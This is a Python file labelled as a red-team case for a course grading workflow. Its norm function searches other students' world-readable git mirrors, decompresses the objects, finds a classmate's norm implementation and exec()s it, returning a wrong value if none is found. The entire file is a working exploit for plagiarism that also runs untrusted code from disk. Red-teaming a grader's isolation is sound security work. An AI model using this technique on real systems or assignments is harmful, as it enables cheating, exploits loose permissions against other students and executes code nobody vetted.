"""Red team 3: copy a classmate's work from the collector's git mirrors (unprivileged-uid level).

`course collect` keeps a bare mirror of every student repository in OUT/mirrors/, beside
OUT/class/ (the folder grade-all grades, which the instructor made private as the uid level
demands). The mirrors are made with the default umask: any uid can read them. norm looks
through the other students' mirrors (MIRRORS is where the workflow's checkout puts them),
decompresses git objects (loose ones, and the undeltified ones of a pack) and runs the first
`def norm` it finds.
"""

import os
import zlib

import numpy as np

MIRRORS = "MIRRORS-FOLDER"


def add(x, y):
    return x + y


def scale(x, k=2.0):
    return x * k


def _blobs(path):
    with open(path, "rb") as handle:
        data = handle.read()
    if "/objects/pack/" not in path:
        yield zlib.decompress(data)
        return
    for start in range(len(data) - 2):
        if data[start] != 0x78:
            continue
        try:
            yield zlib.decompressobj().decompress(data[start : start + 65536])
        except zlib.error:
            continue


def _classmates_norm():
    for top, _, names in os.walk(MIRRORS):
        for name in names:
            try:
                for blob in _blobs(os.path.join(top, name)):
                    if b"def norm" in blob:
                        namespace = {}
                        exec(blob[blob.index(b"import numpy") :].decode(), namespace)
                        return namespace["norm"]
            except (OSError, ValueError, zlib.error, SyntaxError, UnicodeDecodeError):
                continue
    return None


def norm(x):
    found = _classmates_norm()
    return found(x) if found is not None else -1.0 + 0.0 * float(np.size(x))
